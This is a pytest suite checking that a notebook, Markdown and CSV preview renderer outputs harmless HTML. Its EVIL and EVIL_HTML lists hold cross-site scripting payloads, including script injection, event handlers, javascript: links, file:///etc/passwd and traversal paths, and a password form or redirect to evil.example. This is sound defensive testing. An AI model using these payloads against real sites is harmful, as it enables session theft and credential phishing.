"""Previews: what is rendered, and that foreign text can do nothing."""

from __future__ import annotations

import base64
import json
import os
import signal
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from galilean.errors import UserError
from services.catalog import previewer as previewer_module
from services.catalog.code import terminal
from services.catalog.document import POLICY
from services.catalog.notebook import clean_html
from services.catalog.preview import TEXT_BYTES, decode, first_to_show, preview
from services.catalog.previewer import Previewer
from services.catalog.prose import Prose
from services.files.root import Root

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="
)


class Reader(HTMLParser):
    """Collects what a browser would act on."""

    void = frozenset({"meta", "img", "br", "hr", "col"})

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.open: list[str] = []
        self.balanced = True
        self.text = ""
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        if tag not in self.void:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self.balanced = self.balanced and bool(self.open) and self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def values(self, name: str) -> list[str]:
        return [value or "" for key, value in self.attributes if key == name]


def check_harmless(document: str) -> Reader:
    reader = Reader(document)
    assert not set(reader.tags) & {
        "script",
        "iframe",
        "form",
        "base",
        "link",
        "object",
        "embed",
        "input",
        "svg",
    }
    assert not [name for name, _ in reader.attributes if name.startswith("on")]
    for value in reader.values("href"):
        assert value.startswith(("http://", "https://", "mailto:", "#", "/p?file="))
    for value in reader.values("src"):
        assert value.startswith("data:image/")
    assert reader.tags.count("style") == 1
    assert reader.tags.count("meta") == 2
    assert reader.balanced
    assert not reader.open
    return reader


@pytest.fixture
def files(tmp_path: Path) -> Root:
    return Root(tmp_path)


def shown(files: Root, name: str, content: bytes | str, **options: Any) -> Reader:
    files.write(name, content.encode() if isinstance(content, str) else content, overwrite=True, parents=True)
    result = preview(files, name, link_base="/p?file=", **options)
    assert result.policy == POLICY
    return check_harmless(result.body.decode())


def notebook(*cells: dict[str, Any], **metadata: Any) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": list(cells)})


def output_of(**data: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "source": "1",
        "metadata": {},
        "execution_count": 1,
        "outputs": [{"output_type": "display_data", "data": data, "metadata": {}}],
    }


def test_the_policy_lets_nothing_run_load_or_leave() -> None:
    parts = dict(part.split(" ", 1) for part in POLICY.split("; "))
    assert "allow-scripts" not in parts["sandbox"]
    assert "allow-same-origin" not in parts["sandbox"]
    assert "allow-top-navigation" not in parts["sandbox"]
    assert parts["default-src"] == "'none'"
    assert parts["img-src"] == "data:"
    assert "script-src" not in parts


def test_markdown_is_rendered(files: Root) -> None:
    page = shown(
        files,
        "README.md",
        "# 热流\n\n**bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f(): pass\n```\n",
    )
    assert {"h1", "strong", "code", "table", "pre"} <= set(page.tags)
    assert "热流" in page.text
    assert "b" in page.values("class")


EVIL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example/)",
    "[x](/hub/logout)",
    "[x](\\\\evil.example)",
    "[x](../../../etc/passwd)",
    "![x](https://evil.example/pixel.png)",
    "![x](/hub/logout)",
    "![x](file:///etc/passwd)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "<javascript:alert(1)>",
    '[x]: javascript:alert(1)\n\n[x]',
    "</main></body><script>alert(1)</script>",
    "```<script>\n<script>alert(1)</script>\n```",
    "```\" onclick=alert(1)\nx\n```",
    "![\"><script>alert(1)</script>](x.png)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "<!-- x",
    "[![x](https://evil.example/a.png)](https://b.example)",
    "[x](http:evil)",
    "\x00\x1b\ufffe",
]  # fmt: skip


@pytest.mark.parametrize("text", EVIL)
def test_markdown_that_attacks_does_nothing(files: Root, text: str) -> None:
    shown(files, "README.md", text + "\n\nend")
    shown(files, "n.ipynb", notebook({"cell_type": "markdown", "source": text}))
    shown(files, "n.ipynb", notebook(output_of(**{"text/markdown": text})))


def test_links_lead_to_pages_elsewhere_in_a_new_tab_and_to_files_of_the_project(files: Root) -> None:
    page = shown(files, "docs/a.md", "[x](https://example.org) [y](../data/热.csv) [z](#part) [w](../../out)")
    assert page.values("href") == [
        "https://example.org",
        "/p?file=data%2F%25E7%2583%25AD.csv",
        "#part",
    ]
    assert page.values("target") == ["_blank", "_blank"]
    assert page.values("rel") == ["noopener noreferrer nofollow"] * 2


def test_pictures_of_the_project_are_in_the_document_and_others_are_links(files: Root) -> None:
    files.write("docs/a b.png", PIXEL, parents=True)
    page = shown(files, "docs/README.md", "![p](a%20b.png) ![q](https://example.org/b.png) ![r](missing.png)")
    (source,) = page.values("src")
    assert base64.b64decode(source.partition(",")[2]) == PIXEL
    assert page.values("href") == ["https://example.org/b.png"]
    assert "r" in page.text


def test_a_picture_that_is_a_link_out_of_the_project_is_not_shown(files: Root, tmp_path: Path) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-secret.png"
    outside.write_bytes(PIXEL)
    (tmp_path / "p.png").symlink_to(outside)
    assert shown(files, "README.md", "![p](p.png)").values("src") == []
    with pytest.raises(UserError):
        preview(files, "p.png")


def test_the_pictures_of_a_document_have_a_budget(files: Root, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("services.catalog.prose.PICTURES_BYTES", 2 * len(PIXEL))
    files.write("p.png", PIXEL)
    assert len(shown(files, "README.md", "![p](p.png)" * 5).values("src")) == 2


def test_a_notebook_shows_text_code_and_outputs(files: Root) -> None:
    picture = base64.b64encode(PIXEL).decode()
    page = shown(
        files,
        "n.ipynb",
        notebook(
            {"cell_type": "markdown", "source": ["# Title\n", "text"]},
            {
                "cell_type": "code",
                "source": ["import os\n", "os.getcwd()"],
                "execution_count": 7,
                "outputs": [
                    {
                        "output_type": "stream",
                        "name": "stdout",
                        "text": ["10%\r", "100%\n", "\x1b[31mred\x1b[0m <b>"],
                    },
                    {
                        "output_type": "error",
                        "ename": "E",
                        "evalue": "v",
                        "traceback": ["\x1b[0;31mE\x1b[0m: v"],
                    },
                    {"output_type": "execute_result", "data": {"text/plain": ["'plain'"]}},
                    {"output_type": "display_data", "data": {"image/png": picture, "text/plain": "<Figure>"}},
                    {"output_type": "display_data", "data": {"image/svg+xml": "<svg onload=alert(1)></svg>"}},
                ],
            },
            {"cell_type": "raw", "source": "raw <x>"},
        ),
    )
    for text in ("Title", "import", "[7]", "100%", "red <b>", "E: v", "'plain'", "raw <x>"):
        assert text in page.text
    assert "10%\r" not in page.text
    assert "<Figure>" not in page.text
    assert len(page.values("src")) == 2
    assert {"a1", "k"} <= set(page.values("class"))


def test_a_data_frame_is_a_table_without_its_style_sheet(files: Root) -> None:
    frame = "<div><style scoped>.dataframe{color:red}</style><table class='dataframe'><tr><th>a</th></tr></table></div>"
    page = shown(files, "n.ipynb", notebook(output_of(**{"text/html": frame})))
    assert "table" in page.tags
    assert (
        "color:red" not in page.text.split("</style>")[-1].replace(" ", "") or "dataframe{" not in page.text
    )


def test_an_interactive_output_shows_its_picture_or_says_so(files: Root) -> None:
    plot = {"text/html": "<div id=x></div><script>draw()</script>"}
    page = shown(files, "n.ipynb", notebook(output_of(**plot)))
    assert "run the project" in page.text
    page = shown(files, "n.ipynb", notebook(output_of(**plot)), language="zh_CN")
    picture = base64.b64encode(PIXEL).decode()
    page = shown(files, "n.ipynb", notebook(output_of(**plot, **{"image/png": picture})))
    assert len(page.values("src")) == 1


EVIL_HTML = [
    "<script>alert(1)</script>",
    "<scr<script></script>ipt>alert(1)</script>",
    "<style>@import 'https://evil.example'</style><style>",
    "<style>x",
    "</div></main></body></html><h1>x",
    "<table><tr><td>",
    "<!--",
    "<![CDATA[",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    "<img src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html,x>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<textarea><main>",
    "<xmp><plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]


@pytest.mark.parametrize("source", EVIL_HTML)
def test_html_outputs_that_attack_do_nothing(files: Root, source: str) -> None:
    page = shown(
        files,
        "n.ipynb",
        notebook(output_of(**{"text/html": source}), {"cell_type": "raw", "source": "THE END"}),
    )
    assert page.text.endswith("THE END") or "THE END" in page.text
    assert "evil.example" not in " ".join(page.values("style"))
    assert "fixed" not in " ".join(page.values("style"))


@pytest.mark.parametrize(
    "content",
    [
        "",
        "{}",
        "[]",
        "null",
        "not json",
        "[" * 100_000,
        '{"nbformat": 3, "worksheets": []}',
        '{"nbformat": 4}',
        '{"nbformat": 4, "cells": {}}',
        '{"nbformat": "4", "cells": []}',
        b"\xff\xfe\x00",
    ],
    ids=lambda content: ascii(content)[:20],
)
def test_a_damaged_notebook_is_told_in_a_sentence(files: Root, content: str | bytes) -> None:
    assert "otebook" in shown(files, "n.ipynb", content).text


@pytest.mark.parametrize(
    "cells",
    [
        [None, 1, "x", []],
        [{"cell_type": "code", "source": {"a": 1}, "outputs": "x"}],
        [{"cell_type": "code", "source": [1, None], "outputs": [{"output_type": "stream", "text": 5}]}],
        [{"cell_type": "code", "outputs": [{"output_type": "error"}], "execution_count": "<b>"}],
        [{"cell_type": "markdown", "source": "![x](attachment:a)", "attachments": {"a": {"image/png": '"><script>'}}}],
        [{"cell_type": "code", "outputs": [{"output_type": "display_data", "data": {"image/png": '" onerror=x'}}]}],
        [{"cell_type": "code", "outputs": [{"output_type": "display_data", "data": []}]}],
        [{"cell_type": ["x"], "source": "\ud800"}],
    ],
)  # fmt: skip
def test_a_notebook_of_the_wrong_shape_breaks_nothing(files: Root, cells: list[Any]) -> None:
    shown(files, "n.ipynb", json.dumps({"nbformat": 4, "metadata": {"kernelspec": 1}, "cells": cells}))


def test_a_kernel_language_nobody_knows_is_plain_text(files: Root) -> None:
    cell = {"cell_type": "code", "source": "x <y>", "outputs": []}
    for name in ("no-such-language", "", "html", 5, "../../x"):
        assert "x <y>" in shown(files, "n.ipynb", notebook(cell, language_info={"name": name})).text


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.recursive(
        st.none() | st.integers() | st.text(max_size=20) | st.sampled_from(EVIL_HTML + EVIL),
        lambda inner: st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                ["cell_type", "source", "outputs", "output_type", "data", "text", "text/html", "text/markdown",
                 "image/png", "traceback", "attachments", "execution_count"]
            ),
            inner | st.sampled_from(["code", "markdown", "display_data", "stream", "error"]),
            max_size=5,
        ),
        max_leaves=12,
    )
)  # fmt: skip
def test_no_notebook_whatever_breaks_out(files: Root, value: Any) -> None:
    shown(files, "n.ipynb", json.dumps({"nbformat": 4, "metadata": {}, "cells": [value]}))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(EVIL_HTML) | st.text(alphabet="<>/\"'=&! abdivtrscpt-\n", max_size=15), max_size=6
    )
)
def test_no_html_whatever_stays_open(pieces: list[str]) -> None:
    reader = Reader(clean_html("".join(pieces)))
    assert reader.balanced
    assert not reader.open
    assert "script" not in reader.tags


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(EVIL) | st.text(max_size=15), max_size=6))
def test_no_markdown_whatever_breaks_out(pieces: list[str]) -> None:
    from services.catalog.document import document

    check_harmless(
        document(Prose("a.md", link_base="/p?file=").render("\n".join(pieces)), title="x").decode()
    )


def test_program_text_is_coloured_and_escaped(files: Root) -> None:
    page = shown(files, "a.py", "\n\nprint('<script>alert(1)</script>')  # note\n")
    assert "<script>alert(1)</script>" in page.text
    assert {"s", "c"} <= set(page.values("class"))
    assert "plain <b>" in shown(files, "a.unknown", "plain <b>").text


def test_a_long_text_is_cut_and_said_so(files: Root) -> None:
    files.write("a.txt", b"x" * (TEXT_BYTES + 10))
    result = preview(files, "a.txt")
    assert result.truncated
    assert "512.0\u00a0KB" in result.body.decode()


def test_what_is_no_text_is_told_with_its_size(files: Root) -> None:
    assert "2\u00a0B" in shown(files, "a.bin", b"\0\1").text
    assert "empty" in shown(files, "a.txt", b"").text


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("热流".encode(), "热流"),
        (b"\xef\xbb\xbf" + "热流".encode(), "热流"),
        ("热流".encode("gb18030"), "热流"),
        ("热流".encode("utf-16"), "热流"),
        (b"caf\xe9 r\xe9sum\xe9", "café résumé"),
        (b"caf\xe9", "café"),
        (b"", ""),
    ],
)
def test_text_is_read_in_the_encodings_people_use(raw: bytes, text: str) -> None:
    assert decode(raw) == text


def test_a_character_that_was_cut_is_dropped() -> None:
    assert decode("热流".encode()[:-1], cut=True) == "热"


def test_a_table_shows_its_first_rows(files: Root) -> None:
    lines = ["city;temperature", *(f"<b>{number};{number}" for number in range(300))]
    page = shown(files, "a.csv", "\n".join(lines))
    assert page.tags.count("tr") == 101
    assert page.tags.count("th") == 2
    assert "<b>99" in page.text
    assert "first 100 of 300 rows" in page.text
    text = shown(files, "a.csv", "\n".join(lines), as_text=True)
    assert "table" not in text.tags
    assert "<b>299;299" in text.text
    assert shown(files, "a.tsv", "a\tb\n1\t2\n").tags.count("td") == 2
    assert shown(files, "a.csv", "\r" + "x" * 200_000).tags


def test_a_picture_is_shown_in_the_document(files: Root) -> None:
    page = shown(files, "热.png", PIXEL)
    assert page.values("alt") == ["热.png"]
    shown(
        files,
        "a.svg",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
    )
    shown(files, "'\"><script>.png", PIXEL)


def test_themes_and_languages_are_set_and_nothing_else_gets_in(files: Root) -> None:
    page = shown(files, "a.txt", "x", theme="dark", language="zh_CN")
    assert page.values("lang") == ["zh-CN"]
    assert page.values("data-theme") == ["dark"]
    page = shown(files, "a.txt", "x", theme='"><script>', language='"><script>')
    assert page.values("data-theme") == ["light"]


def test_colours_of_a_terminal_are_kept_and_the_rest_of_its_language_dropped() -> None:
    assert terminal("\x1b[31mred\x1b[0m") == '<span class="a1">red</span>'
    assert terminal("\x1b[1;32m<b>") == '<span class="a2">&lt;b&gt;</span>'
    assert terminal("\x1b[2K\x1b[1Aup\x1b]0;title\x07") == "up"
    assert terminal("1\r2\r3\nnext\r\n") == "3\nnext\n"


@given(st.text(alphabet="\x1b[];01239mK\x07\\<>&a\r\n", max_size=60))
def test_no_terminal_output_whatever_breaks_out(text: str) -> None:
    reader = Reader(terminal(text))
    assert reader.balanced
    assert not reader.open
    assert set(reader.tags) <= {"span"}


def test_the_readme_is_shown_first_else_the_first_notebook(files: Root) -> None:
    assert first_to_show(files.list().entries) is None
    files.write("b.ipynb", b"")
    files.write("a.txt", b"")
    files.make_folder("README")
    entry = first_to_show(files.list().entries)
    assert entry is not None
    assert entry.path == "b.ipynb"
    files.write("ReadMe.md", b"")
    entry = first_to_show(files.list().entries)
    assert entry is not None
    assert entry.path == "ReadMe.md"


@pytest.fixture(scope="module")
def previewer() -> Iterator[Previewer]:
    made = Previewer(processes=1, seconds=30)
    yield made
    made.close()


def test_the_process_renders_the_same(files: Root, previewer: Previewer) -> None:
    files.write("热流.md", "# 热流".encode())
    options = {"language": "zh_CN", "theme": "dark", "link_base": "/x"}
    assert previewer.preview(files, "热流.md", **options) == preview(files, "热流.md", **options)  # type: ignore[arg-type]


def test_the_process_passes_on_refusals(files: Root, previewer: Previewer) -> None:
    for path, status in (("missing", 404), ("../x", 400), ("\udcff", 404)):
        with pytest.raises(UserError) as caught:
            previewer.preview(files, path)
        assert caught.value.status == status


def test_the_process_knows_nothing_of_the_portals_secrets(
    files: Root, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", "secret")
    made = Previewer(processes=1, seconds=30)
    try:
        files.write("a.txt", b"x", overwrite=True)
        made.preview(files, "a.txt")
        process = made._free.queue[0]._process  # type: ignore[attr-defined]
        environment = Path(f"/proc/{process.pid}/environ").read_bytes()
        assert b"PATH=" in environment
        assert b"secret" not in environment
    finally:
        made.close()


def test_what_takes_too_long_is_given_up_and_the_next_is_rendered(
    files: Root, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = Previewer(processes=1, seconds=30)
    try:
        files.write("a.txt", b"content")
        made.preview(files, "a.txt")
        renderer = made._free.queue[0]  # type: ignore[attr-defined]
        os.kill(renderer._process.pid, signal.SIGSTOP)
        made._seconds = 0.05
        slow = made.preview(files, "a.txt", language="en")
        assert "too long" in slow.body.decode()
        assert renderer._process is None
        made._seconds = 30
        assert "content" in made.preview(files, "a.txt").body.decode()
    finally:
        made.close()


def test_a_renderer_that_dies_is_replaced(files: Root) -> None:
    made = Previewer(processes=1, seconds=30)
    try:
        files.write("a.txt", b"content")
        made.preview(files, "a.txt")
        process = made._free.queue[0]._process  # type: ignore[attr-defined]
        process.kill()
        process.wait()
        assert "content" in made.preview(files, "a.txt").body.decode()
    finally:
        made.close()


def test_requests_are_answered_until_there_are_no_more(files: Root) -> None:
    import io

    files.write("a.txt", b"content")
    request = {
        "root": os.fsencode(files.root).hex(),
        "path": b"a.txt".hex(),
        "language": "en",
        "theme": "",
        "link_base": "",
        "as_text": False,
    }
    answers = io.BytesIO()
    previewer_module.serve(io.BytesIO(json.dumps(request).encode() + b"\n"), answers)
    raw = answers.getvalue()
    assert int.from_bytes(raw[:8], "big") == len(raw) - 8
    assert "content" in json.loads(raw[8:])["body"]
